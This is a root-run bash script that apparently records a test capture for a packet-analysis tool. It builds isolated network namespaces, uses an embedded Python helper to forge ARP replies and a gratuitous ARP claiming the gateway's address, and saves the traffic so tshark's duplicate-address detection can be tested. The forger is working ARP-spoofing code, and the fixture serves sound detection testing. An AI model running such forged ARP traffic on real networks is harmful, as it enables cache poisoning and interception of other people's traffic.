#!/usr/bin/env bash
# Record tests/data/arp-spoof.pcap: an ARP spoofing attack between namespaces created (and
# destroyed) by this script, so that tshark reports arp.duplicate-address-detected.
#
#   sudo tests/data/record_arp.sh
#
# Topology (private namespaces only, 10.79.0.0/24, nothing leaves them): a bridge in its own
# namespace joins three hosts, like one Ethernet segment.
#
#   sp-a (victim)   a0 02:79:00:00:00:0a 10.79.0.1 --\
#   sp-b (gateway)  b0 02:79:00:00:00:0b 10.79.0.2 ----- br0 (ns sp-br)
#   sp-m (attacker) m0 02:79:00:00:00:66 10.79.0.66 -/
#
# What happens (capture on a0 in sp-a): a pings b (real ARP request/reply, echo pairs); m sends
# three forged ARP replies to a, "10.79.0.2 is at 02:79:00:00:00:66", from a raw AF_PACKET socket
# (python stdlib); a pings b again (its kernel may now send to m's MAC: the ping then goes
# unanswered until the entry is re-validated); b answers a fresh ARP request from a; finally m
# sends a gratuitous ARP reply claiming 10.79.0.2 for itself.
# Needs: iproute2, tcpdump, python3 (stdlib only), ethtool (optional).
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUT="$HERE/arp-spoof.pcap"
PY=/usr/bin/python3
[ -x "$PY" ] || PY="$(command -v python3)"
NS_A=sp-a
NS_B=sp-b
NS_M=sp-m
NS_BR=sp-br

if [ "$(id -u)" != 0 ]; then echo "record_arp.sh: must run as root (network namespaces)" >&2; exit 1; fi

TMP="$(mktemp -d /tmp/layerscope-record-arp.XXXXXX)"
PIDS=()
CAP_PID=""

del_ns() {
    local ns pid
    for ns in "$NS_A" "$NS_B" "$NS_M" "$NS_BR"; do
        if ip netns list | grep -qw "$ns"; then
            for pid in $(ip netns pids "$ns" 2>/dev/null); do kill -9 "$pid" 2>/dev/null || true; done
            ip netns del "$ns" 2>/dev/null || true
        fi
    done
}

cleanup() {
    local rc=$? p
    for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
    del_ns
    rm -rf "$TMP"
    exit $rc
}
trap cleanup EXIT
trap 'exit 130' INT TERM

inA() { ip netns exec "$NS_A" "$@"; }
inB() { ip netns exec "$NS_B" "$@"; }
inM() { ip netns exec "$NS_M" "$@"; }
inBR() { ip netns exec "$NS_BR" "$@"; }

setup() {
    del_ns
    local ns
    for ns in "$NS_A" "$NS_B" "$NS_M" "$NS_BR"; do
        ip netns add "$ns"
        ip netns exec "$ns" ip link set lo up
        ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
        ip netns exec "$ns" sysctl -qw net.ipv6.conf.default.disable_ipv6=1
    done
    inBR ip link add br0 type bridge
    inBR ip link set br0 up
    local host ifc mac addr
    for host in "a0 02:79:00:00:00:0a 10.79.0.1 $NS_A" "b0 02:79:00:00:00:0b 10.79.0.2 $NS_B" \
        "m0 02:79:00:00:00:66 10.79.0.66 $NS_M"; do
        read -r ifc mac addr ns <<<"$host"
        ip link add "$ifc" address "$mac" netns "$ns" type veth peer name "p$ifc" netns "$NS_BR"
        inBR ip link set "p$ifc" master br0
        inBR ip link set "p$ifc" up
        ip netns exec "$ns" ethtool -K "$ifc" rx off tx off >/dev/null 2>&1 || true
        ip netns exec "$ns" ip addr add "$addr/24" dev "$ifc"
        ip netns exec "$ns" ip link set "$ifc" up
    done
    sleep 1
    inA ip neigh flush all; inB ip neigh flush all; inM ip neigh flush all
}

write_helpers() {
    # forge.py IFACE SENDER_MAC SENDER_IP TARGET_MAC TARGET_IP COUNT: ARP replies (opcode 2).
    cat > "$TMP/forge.py" <<'EOF'
import socket, sys, time
ifc, smac, sip, tmac, tip, count = sys.argv[1:7]
mac = lambda text: bytes.fromhex(text.replace(":", ""))
ip = lambda text: socket.inet_aton(text)
frame = (mac(tmac) + mac(smac) + b"\x08\x06"
         + b"\x00\x01\x08\x00\x06\x04\x00\x02" + mac(smac) + ip(sip) + mac(tmac) + ip(tip))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifc, 0))
for _ in range(int(count)):
    s.send(frame)
    time.sleep(0.5)
EOF
}

cap_start() {
    rm -f "$OUT"
    : > "$TMP/cap.err"
    # Not through inA: a backgrounded function is a subshell, and SIGINT must reach tcpdump itself.
    ip netns exec "$NS_A" tcpdump -Z root -i a0 -U -n -s 0 -w "$OUT" 'arp or icmp' 2>"$TMP/cap.err" &
    CAP_PID=$!; PIDS+=("$CAP_PID")
    local i
    for ((i = 0; i < 100; i++)); do grep -q "listening on" "$TMP/cap.err" && break; sleep 0.1; done
    sleep 0.3
}

cap_stop() {
    sleep 0.7
    kill -INT "$CAP_PID" 2>/dev/null || true
    wait "$CAP_PID" 2>/dev/null || true
    cat "$TMP/cap.err" >&2 || true
}

write_helpers
setup
cap_start
inA ping -n -c 2 -i 0.2 10.79.0.2                                                     # real ARP + echo
inM "$PY" "$TMP/forge.py" m0 02:79:00:00:00:66 10.79.0.2 02:79:00:00:00:0a 10.79.0.1 3   # spoofed replies
inA ping -n -c 1 -W 1 10.79.0.2 || true
inA ip neigh flush all
inA ping -n -c 1 -W 1 10.79.0.2 || true                                               # b answers again
inM "$PY" "$TMP/forge.py" m0 02:79:00:00:00:66 10.79.0.2 ff:ff:ff:ff:ff:ff 10.79.0.2 1   # gratuitous reply
cap_stop
chmod 644 "$OUT"
tshark -n -r "$OUT" -Y arp.duplicate-address-detected 2>/dev/null >&2 || true
